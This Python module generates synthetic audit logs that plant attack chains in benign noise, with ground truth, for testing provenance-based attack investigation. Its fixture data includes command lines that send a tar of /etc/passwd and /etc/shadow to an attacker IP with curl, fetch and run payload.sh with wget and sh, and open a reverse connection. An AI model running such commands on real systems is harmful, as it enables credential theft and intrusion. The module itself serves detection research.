"""Synthetic audit-log scenarios: a planted multi-stage attack in benign noise.

The data-leakage template plays out across two hosts: the attacker breaks
into host1 through a vulnerable web server, hops to host2 over ssh, packs
sensitive files into a tar archive there, pulls the archive back with scp,
and exfiltrates it with curl. Ground truth lists every attack entity and
event per host, machine-readable, so tests can check recovered graphs for
exact equality.

Noise is built so that the attack's backward cone is deep and wide (shared
libraries with their package-manager provenance, editor activity) while
nothing benign ever carries flow OUT of an attack entity; recovering the
attack by forward-tracking from the entry point is then an exact check,
not a heuristic one.
"""

from __future__ import annotations

import json
import os
import random
from dataclasses import dataclass, field
from typing import Optional

from .errors import ValidationError

ATTACKER_IP = "20.69.152.188"
HOST1_IP = "13.66.254.172"
HOST2_IP = "13.66.254.173"

_BASE_TS = 1_767_225_600 * 1_000_000_000  # fixed epoch keeps output reproducible
_SEC = 1_000_000_000

TEMPLATES = ("data-leakage", "shellshock-penetration", "wget-executable")

# The canonical six-step investigation of the data-leakage case on host1.
INVESTIGATION_SCRIPT = """\
// 1: verify the alert: a tar archive read by curl and pushed to the network within a second
search from db(host1) where e1{name="curl", type=process}, e2{path like "%.tar"}, e3{type=network} with e2[read]->e1 &&[<1s] e1[write]->e3 return * as poi1;

// 2: where did the archive come from? two hops back, editor noise excluded
g2 = back track poi1 from db(host1) exclude nodes where name="vscode" limit step 2;

// 3: confirm inside g2 that scp pulled the archive off the network
search from g2 where e1{name="scp", type=process}, e2{type=network} with e2[read]->e1 return *;

// 4: full backward history of the curl process
g3 = back track where name="curl" from db(host1) exclude nodes where name="vscode";

// 5: which process talked to the attacker address?
search from g3 where e1{type=process}, e2{srcip="20.69.152.188", type=network} with e2[read]->e1 return *;

// 6: combine the evidence and replay the attack forward from the entry point
g4 = g2 | g3 | poi1;
g5 = forward track where srcip="20.69.152.188" from g4;
display g5;
"""

# Tracking statements used by the explosion-mitigation comparison. The
# constrained variant mirrors investigation step 2 (exclusions plus a step
# limit); the limit is 4 because the planted chain is four hops deep from
# the alert events.
MITIGATION_CONSTRAINED = (
    'back track poi1 from db(host1) exclude nodes where '
    'name="vscode" || name="dpkg" || name="wget" || '
    'path like "/usr/lib/%" || path like "/home/user/docs/%" '
    'limit step 4;'
)
MITIGATION_UNCONSTRAINED = "back track poi1 from db(host1);"


@dataclass
class ScenarioSpec:
    template: str = "data-leakage"
    seed: int = 1
    hosts: int = 2
    noise_events: int = 100_000
    time_span_s: int = 3600

    def __post_init__(self):
        if self.template not in TEMPLATES:
            raise ValidationError(f"unknown attack template {self.template!r}")
        if self.template == "data-leakage" and self.hosts < 2:
            raise ValidationError("the data-leakage template spans two hosts")
        if self.hosts < 1 or self.noise_events < 0 or self.time_span_s <= 0:
            raise ValidationError("hosts must be >= 1, noise >= 0, time span positive")


@dataclass
class HostTruth:
    entity_keys: list = field(default_factory=list)
    events: list = field(default_factory=list)  # fingerprint tuples


@dataclass
class GroundTruth:
    template: str
    seed: int
    poi_host: str
    hosts: dict = field(default_factory=dict)

    def to_json(self) -> str:
        doc = {
            "template": self.template,
            "seed": self.seed,
            "poi_host": self.poi_host,
            "hosts": {
                name: {"entities": t.entity_keys, "events": [list(fp) for fp in t.events]}
                for name, t in self.hosts.items()
            },
        }
        return json.dumps(doc, indent=1, sort_keys=True)

    @classmethod
    def from_json(cls, text: str) -> "GroundTruth":
        doc = json.loads(text)
        gt = cls(doc["template"], doc["seed"], doc["poi_host"])
        for name, h in doc["hosts"].items():
            gt.hosts[name] = HostTruth(h["entities"], [tuple(fp) for fp in h["events"]])
        return gt


# -- entity attribute helpers -------------------------------------------------------

def _proc(exename: str, pid: int, user: str = "ubuntu", cmdline: str = "") -> dict:
    return {
        "exename": exename,
        "exepath": f"/usr/bin/{exename}",
        "pid": pid,
        "user": user,
        "group": user,
        "cmdline": cmdline or exename,
    }


def _file(path: str, user: str = "ubuntu") -> dict:
    return {"kind": "file", "path": path, "name": path.rsplit("/", 1)[-1], "user": user, "group": user}


def _sock(srcip: str, srcport: int, dstip: str, dstport: int) -> dict:
    return {"kind": "network", "srcip": srcip, "srcport": srcport,
            "dstip": dstip, "dstport": dstport, "protocol": "tcp"}


def _proc_obj(attrs: dict) -> dict:
    obj = dict(attrs)
    obj["kind"] = "process"
    return obj


def _proc_key(attrs: dict) -> str:
    return f"{attrs['exename']}:{attrs['pid']}"


def _obj_key(obj: dict) -> str:
    if obj["kind"] == "file":
        return obj["path"]
    if obj["kind"] == "process":
        return f"{obj['exename']}:{obj['pid']}"
    return f"{obj['srcip']}:{obj['srcport']}:{obj['dstip']}:{obj['dstport']}:{obj['protocol']}"


class _HostLog:
    """Accumulates records for one host and the attack ground truth."""

    def __init__(self, host: str):
        self.host = host
        self.records: list = []
        self.truth = HostTruth()

    def add(self, syscall: str, subject: dict, obj: dict, ts: int, te: int,
            nbytes: int = 0, success: bool = True, note: Optional[str] = None,
            attack: bool = False) -> None:
        record = {
            "syscall": syscall,
            "success": success,
            "ts": ts,
            "te": te,
            "bytes": nbytes,
            "host": self.host,
            "subject": subject,
            "object": dict(obj),
        }
        if note is not None:
            record["object"]["note"] = note
        self.records.append(record)
        if attack:
            optype = "recvfrom" if syscall == "recvmsg" else syscall
            if syscall in ("read", "readv", "recvfrom", "recvmsg"):
                src_key, dst_key = _obj_key(record["object"]), _proc_key(subject)
            else:
                src_key, dst_key = _proc_key(subject), _obj_key(record["object"])
            self.truth.events.append((src_key, dst_key, optype, ts, te, nbytes))
            for key in (_proc_key(subject), _obj_key(record["object"])):
                if key not in self.truth.entity_keys:
                    self.truth.entity_keys.append(key)

    def lines(self) -> list:
        ordered = sorted(self.records, key=lambda r: (r["ts"], r["te"], r["syscall"]))
        return [json.dumps(r, sort_keys=True) for r in ordered]


# -- the planted attacks ----------------------------------------------------------------

def _plant_data_leakage(h1: _HostLog, h2: _HostLog, start: int) -> dict:
    """Emit the two-host attack chain; returns the host1 attack entities."""
    s = start
    lighttpd = _proc("lighttpd", 801, user="www-data", cmdline="lighttpd -D -f /etc/lighttpd/lighttpd.conf")
    bash = _proc("bash", 4202, user="www-data", cmdline="bash -i")
    scp = _proc("scp", 4310, user="www-data", cmdline=f"scp ubuntu@{HOST2_IP}:sensitive_data.tar /tmp/")
    curl = _proc("curl", 4377, user="www-data",
                 cmdline=f"curl --data-binary @/tmp/sensitive_data.tar http://{ATTACKER_IP}/up")
    sock_in = _sock(ATTACKER_IP, 40021, HOST1_IP, 8080)
    sock_h2 = _sock(HOST1_IP, 51022, HOST2_IP, 22)
    tar_file = _file("/tmp/sensitive_data.tar", user="www-data")
    sock_out = _sock(HOST1_IP, 51040, ATTACKER_IP, 80)

    def at(offset_s: float, dur_s: float = 0.05) -> tuple:
        t0 = s + int(offset_s * _SEC)
        return t0, t0 + int(dur_s * _SEC)

    # stage 1: shellshock request, web server spawns an attacker shell
    h1.add("read", lighttpd, sock_in, *at(0.0, 0.2), nbytes=512, attack=True)
    h1.add("fork", lighttpd, _proc_obj(bash), *at(2.0), attack=True)

    # stages 2-3 play out on host2: ssh in, pack the sensitive files
    sshd = _proc("sshd", 612, user="root", cmdline="sshd: ubuntu [priv]")
    bash2 = _proc("bash", 7001, cmdline="bash -c 'tar cf sensitive_data.tar /etc/passwd /etc/shadow'")
    tar = _proc("tar", 7055, cmdline="tar cf sensitive_data.tar /etc/passwd /etc/shadow")
    scp_remote = _proc("scp", 7090, cmdline="scp -f sensitive_data.tar")
    sock_from_h1 = _sock(HOST1_IP, 51022, HOST2_IP, 22)
    sock_to_h1 = _sock(HOST2_IP, 22, HOST1_IP, 51022)
    passwd = _file("/etc/passwd", user="root")
    shadow = _file("/etc/shadow", user="root")
    tar2 = _file("/home/ubuntu/sensitive_data.tar")

    h2.add("read", sshd, sock_from_h1, *at(4.0, 0.2), nbytes=1024, attack=True)
    h2.add("fork", sshd, _proc_obj(bash2), *at(5.5), attack=True)
    h2.add("fork", bash2, _proc_obj(tar), *at(7.0), attack=True)
    h2.add("read", tar, passwd, *at(8.5, 0.1), nbytes=2200, attack=True)
    h2.add("read", tar, shadow, *at(10.0, 0.1), nbytes=1400, attack=True)
    h2.add("write", tar, tar2, *at(11.5, 0.1), nbytes=10240, attack=True)
    h2.add("fork", sshd, _proc_obj(scp_remote), *at(13.0), attack=True)
    h2.add("read", scp_remote, tar2, *at(14.5, 0.1), nbytes=10240, attack=True)
    h2.add("write", scp_remote, sock_to_h1, *at(16.0, 0.2), nbytes=10240, attack=True)

    # stage 4: fetch the archive to host1 and push it to the attacker
    h1.add("fork", bash, _proc_obj(scp), *at(18.0), attack=True)
    h1.add("write", scp, sock_h2, *at(20.0, 0.1), nbytes=256, attack=True)
    h1.add("read", scp, sock_h2, *at(22.0, 0.5), nbytes=10240, attack=True)
    h1.add("write", scp, tar_file, *at(24.0, 0.1), nbytes=10240, attack=True)
    h1.add("fork", bash, _proc_obj(curl), *at(26.0), attack=True)
    h1.add("read", curl, tar_file, *at(28.0, 0.1), nbytes=10240, attack=True)
    # within one second of the tar read: the pattern the alert query matches
    h1.add("write", curl, sock_out, *at(28.3, 0.1), nbytes=10240, attack=True)

    return {"lighttpd": lighttpd, "bash": bash, "scp": scp, "curl": curl,
            "sshd": sshd, "bash2": bash2, "tar": tar, "scp_remote": scp_remote}


def _plant_shellshock(h1: _HostLog, start: int) -> dict:
    s = start
    lighttpd = _proc("lighttpd", 801, user="www-data")
    bash = _proc("bash", 4202, user="www-data", cmdline="bash -i")
    whoami = _proc("whoami", 4210, user="www-data")
    sock_in = _sock(ATTACKER_IP, 40021, HOST1_IP, 8080)
    sock_back = _sock(HOST1_IP, 51100, ATTACKER_IP, 4444)

    h1.add("read", lighttpd, sock_in, s, s + _SEC // 5, nbytes=512, attack=True)
    h1.add("fork", lighttpd, _proc_obj(bash), s + 2 * _SEC, s + 2 * _SEC + _SEC // 20, attack=True)
    h1.add("fork", bash, _proc_obj(whoami), s + 4 * _SEC, s + 4 * _SEC + _SEC // 20, attack=True)
    h1.add("write", bash, sock_back, s + 6 * _SEC, s + 6 * _SEC + _SEC // 10, nbytes=128, attack=True)
    return {"lighttpd": lighttpd, "bash": bash}


def _plant_wget_executable(h1: _HostLog, start: int) -> dict:
    s = start
    wget = _proc("wget", 4501, cmdline=f"wget http://{ATTACKER_IP}/payload.sh -O /tmp/payload.sh")
    sh = _proc("sh", 4530, cmdline="sh /tmp/payload.sh")
    bash = _proc("bash", 4500, cmdline="bash -i")
    sock_dl = _sock(HOST1_IP, 51200, ATTACKER_IP, 80)
    script = _file("/tmp/payload.sh")

    h1.add("read", wget, sock_dl, s, s + _SEC // 5, nbytes=4096, attack=True)
    h1.add("write", wget, script, s + 2 * _SEC, s + 2 * _SEC + _SEC // 10, nbytes=4096, attack=True)
    h1.add("fork", bash, _proc_obj(sh), s + 4 * _SEC, s + 4 * _SEC + _SEC // 20, attack=True)
    h1.add("read", sh, script, s + 6 * _SEC, s + 6 * _SEC + _SEC // 10, nbytes=4096, attack=True)
    return {"wget": wget, "sh": sh, "bash": bash}


# -- benign noise -------------------------------------------------------------------------

def _noise_web(log: _HostLog, rng: random.Random, chain_procs: list, w0: int, attack_start: int,
               budget: int) -> int:
    """Shared-library provenance web, reachable backward from the chain.

    Libraries are read by the attack processes; each library was written by
    a dpkg run that read package archives fetched by wget over the mirror
    socket. Unconstrained backward tracking walks all of it.
    """
    if budget < 20:
        return 0
    emitted = 0
    n_libs = min(80, max(4, budget // 6))
    libs = [_file(f"/usr/lib/x86_64/lib{('crypto','ssl','z','curl','tinfo','pcre')[i % 6]}-{i}.so", user="root")
            for i in range(n_libs)]
    n_dpkg = max(1, n_libs // 10)
    web_t0 = w0
    web_t1 = w0 + (attack_start - w0) // 4

    def t(lo: int, hi: int) -> int:
        return rng.randrange(lo, max(lo + 1, hi))

    for j in range(n_dpkg):
        dpkg = _proc("dpkg", 12000 + j, user="root", cmdline="dpkg --unpack")
        wget = _proc("wget", 12100 + j, user="root", cmdline="wget mirror.internal/pool")
        mirror = _sock(HOST1_IP if log.host == "host1" else HOST2_IP, 42000 + j, "198.51.100.7", 80)
        own = libs[j::n_dpkg]
        for i, lib in enumerate(own):
            pkg = _file(f"/var/cache/apt/archives/pkg-{j}-{i}.deb", user="root")
            base = t(web_t0, web_t1 - 40 * _SEC)
            log.add("write", wget, mirror, base, base + _SEC // 10, nbytes=96)           # request
            log.add("read", wget, mirror, base + 2 * _SEC, base + 2 * _SEC + _SEC, nbytes=65536)
            log.add("write", wget, pkg, base + 4 * _SEC, base + 4 * _SEC + _SEC // 2, nbytes=65536)
            log.add("read", dpkg, pkg, base + 8 * _SEC, base + 8 * _SEC + _SEC // 2, nbytes=65536)
            log.add("write", dpkg, lib, base + 12 * _SEC, base + 12 * _SEC + _SEC // 2, nbytes=32768)
            emitted += 5
            if emitted >= budget - len(chain_procs) * 12:
                break
        if emitted >= budget - len(chain_procs) * 12:
            break

    # attack processes pull a spread of libraries in before they act
    reads_per_proc = min(12, max(1, (budget - emitted) // max(1, len(chain_procs))))
    for proc in chain_procs:
        chosen = rng.sample(libs, min(reads_per_proc, len(libs)))
        for lib in chosen:
            base = t(attack_start - 300 * _SEC, attack_start - 5 * _SEC)
            log.add("read", proc, lib, base, base + _SEC // 20, nbytes=8192)
            emitted += 1
    return emitted


def _noise_editor(log: _HostLog, rng: random.Random, w0: int, attack_start: int,
                  budget: int, curl: Optional[dict]) -> int:
    """vscode edits documents; on host1 it also wrote the curl rc file that
    the attack curl later reads, which is how editor noise enters the cone."""
    if budget < 4:
        return 0
    emitted = 0
    vscode = _proc("vscode", 13000, cmdline="vscode /home/user/docs")
    docs = [_file(f"/home/user/docs/notes-{i}.md") for i in range(min(60, budget // 2))]
    t0, t1 = w0, max(w0 + 1, attack_start - 60 * _SEC)
    for doc in docs:
        base = rng.randrange(t0, t1)
        log.add("write", vscode, doc, base, base + _SEC // 10, nbytes=2048)
        log.add("read", vscode, doc, base + 5 * _SEC, base + 5 * _SEC + _SEC // 10, nbytes=2048)
        emitted += 2
        if emitted >= budget - 2:
            break
    if curl is not None:
        rc = _file("/home/user/.curlrc")
        log.add("write", vscode, rc, attack_start - 500 * _SEC, attack_start - 500 * _SEC + _SEC // 10, nbytes=64)
        log.add("read", curl, rc, attack_start - 30 * _SEC, attack_start - 30 * _SEC + _SEC // 20, nbytes=64)
        emitted += 2
    return emitted


_FILLER_PROCS = ("nginx", "chrome", "slack", "backupd", "python3", "worker", "gcc", "make")


def _noise_filler(log: _HostLog, rng: random.Random, w0: int, w1: int, budget: int) -> int:
    """Traffic with no path into the attack cone: web serving, browsing,
    backups, and chunked reads that the ingest-time merge collapses."""
    emitted = 0
    host_ip = HOST1_IP if log.host == "host1" else HOST2_IP
    proc_pool = []
    for i in range(40):
        name = _FILLER_PROCS[i % len(_FILLER_PROCS)]
        proc_pool.append(_proc(name, 20000 + i, user=rng.choice(("ubuntu", "www-data", "svc"))))
    file_pool = [_file(f"/srv/data/blob-{i}.bin") for i in range(120)]
    cache_pool = [_file(f"/home/user/.cache/web/page-{i}.html") for i in range(120)]

    while emitted < budget:
        kind = rng.randrange(4)
        proc = rng.choice(proc_pool)
        base = rng.randrange(w0, w1)
        if kind == 0:
            # inbound request, cached response artifact
            sock = _sock(f"203.0.113.{rng.randrange(1, 250)}", rng.randrange(1024, 65000), host_ip, 443)
            log.add("read", proc, sock, base, base + _SEC // 10, nbytes=rng.randrange(64, 4096))
            log.add("write", proc, rng.choice(cache_pool), base + _SEC, base + _SEC + _SEC // 10,
                    nbytes=rng.randrange(256, 8192))
            emitted += 2
        elif kind == 1:
            # chunked file read burst: merges into one stored event
            blob = rng.choice(file_pool)
            chunks = rng.randrange(2, 6)
            for c in range(chunks):
                t0 = base + c * (_SEC // 3)
                log.add("read", proc, blob, t0, t0 + _SEC // 5, nbytes=4096)
            emitted += chunks
        elif kind == 2:
            log.add("write", proc, rng.choice(file_pool), base, base + _SEC // 8,
                    nbytes=rng.randrange(128, 65536))
            emitted += 1
        else:
            child = _proc(rng.choice(("ls", "grep", "sed", "sort")), 40000 + (emitted % 20000))
            log.add("fork", proc, _proc_obj(child), base, base + _SEC // 50)
            emitted += 1
    return emitted


def _add_noise(log: _HostLog, rng: random.Random, spec: ScenarioSpec, attack_start: int,
               chain: dict) -> None:
    n = spec.noise_events
    if n <= 0:
        return
    w0 = _BASE_TS
    w1 = _BASE_TS + spec.time_span_s * _SEC
    chain_procs = [chain[k] for k in ("lighttpd", "bash", "scp", "curl", "sshd", "bash2", "tar", "scp_remote", "wget", "sh")
                   if k in chain]
    web_budget = min(530, n)
    used = _noise_web(log, rng, chain_procs, w0, attack_start, web_budget)
    editor_budget = min(130, n - used)
    used += _noise_editor(log, rng, w0, attack_start, editor_budget, chain.get("curl"))
    if n - used > 0:
        used += _noise_filler(log, rng, w0, w1, n - used)
    # a few failed calls; ingest filters them out
    for i in range(min(5, n)):
        proc = _proc("python3", 29000 + i)
        base = rng.randrange(w0, w1)
        log.add("read", proc, _file("/etc/restricted.conf", user="root"),
                base, base + _SEC // 50, nbytes=0, success=False)


# -- public entry points --------------------------------------------------------------------

def generate(spec: ScenarioSpec):
    """Produce {host: [jsonl lines]} plus the ground truth.

    Output is a pure function of the spec: the same seed gives byte-identical
    logs. Attack events never merge away during reduction because no attack
    entity pair repeats an operation within the merge threshold.
    """
    rng = random.Random(spec.seed)
    attack_start = _BASE_TS + (spec.time_span_s * _SEC * 3) // 4
    hosts = [f"host{i + 1}" for i in range(spec.hosts)]
    logs = {name: _HostLog(name) for name in hosts}

    if spec.template == "data-leakage":
        chain = _plant_data_leakage(logs["host1"], logs["host2"], attack_start)
        h1_chain = {k: chain[k] for k in ("lighttpd", "bash", "scp", "curl")}
        h2_chain = {k: chain[k] for k in ("sshd", "bash2", "tar", "scp_remote")}
    elif spec.template == "shellshock-penetration":
        chain = _plant_shellshock(logs["host1"], attack_start)
        h1_chain, h2_chain = chain, {}
    else:
        chain = _plant_wget_executable(logs["host1"], attack_start)
        h1_chain, h2_chain = chain, {}

    for name in hosts:
        host_rng = random.Random(f"{spec.seed}:{name}")
        if name == "host1":
            host_chain = dict(h1_chain)
            if "curl" in chain:
                host_chain["curl"] = chain["curl"]
        elif name == "host2":
            host_chain = h2_chain
        else:
            host_chain = {}
        _add_noise(logs[name], host_rng, spec, attack_start, host_chain)

    truth = GroundTruth(spec.template, spec.seed, poi_host="host1")
    for name in hosts:
        truth.hosts[name] = logs[name].truth
    return {name: logs[name].lines() for name in hosts}, truth


def write_scenario(spec: ScenarioSpec, outdir: str) -> dict:
    """Write per-host JSONL logs, ground truth, and the investigation script."""
    lines_by_host, truth = generate(spec)
    os.makedirs(outdir, exist_ok=True)
    paths = {}
    for host, lines in lines_by_host.items():
        path = os.path.join(outdir, f"{host}.jsonl")
        with open(path, "w") as fp:
            fp.write("\n".join(lines))
            fp.write("\n")
        paths[host] = path
    gt_path = os.path.join(outdir, "ground_truth.json")
    with open(gt_path, "w") as fp:
        fp.write(truth.to_json())
        fp.write("\n")
    paths["ground_truth"] = gt_path
    if spec.template == "data-leakage":
        script_path = os.path.join(outdir, "investigation.tstl")
        with open(script_path, "w") as fp:
            fp.write(INVESTIGATION_SCRIPT)
        paths["script"] = script_path
    return paths
